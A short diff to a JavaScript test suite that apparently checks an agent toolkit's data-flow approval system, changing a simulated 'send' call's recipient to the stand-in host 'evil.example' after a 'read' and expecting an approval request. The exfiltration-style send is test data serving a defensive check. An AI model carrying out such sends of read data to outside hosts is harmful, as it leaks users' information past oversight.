@@ -289,7 +289,7 @@ describe('flow and approval', () => {
     const session = toolkit.session();
     await session.execute('read', {});
     await session.execute('send', toEve);
-    await session.execute('send', { to: 'it' });
+    await session.execute('send', { to: 'evil.example' });
     expect(count).toBe(1);
     expect(session.approvals.list()).toMatchObject([
       { toolName: 'send', origins: [{ argument: '/to', source: 'read#' }] },
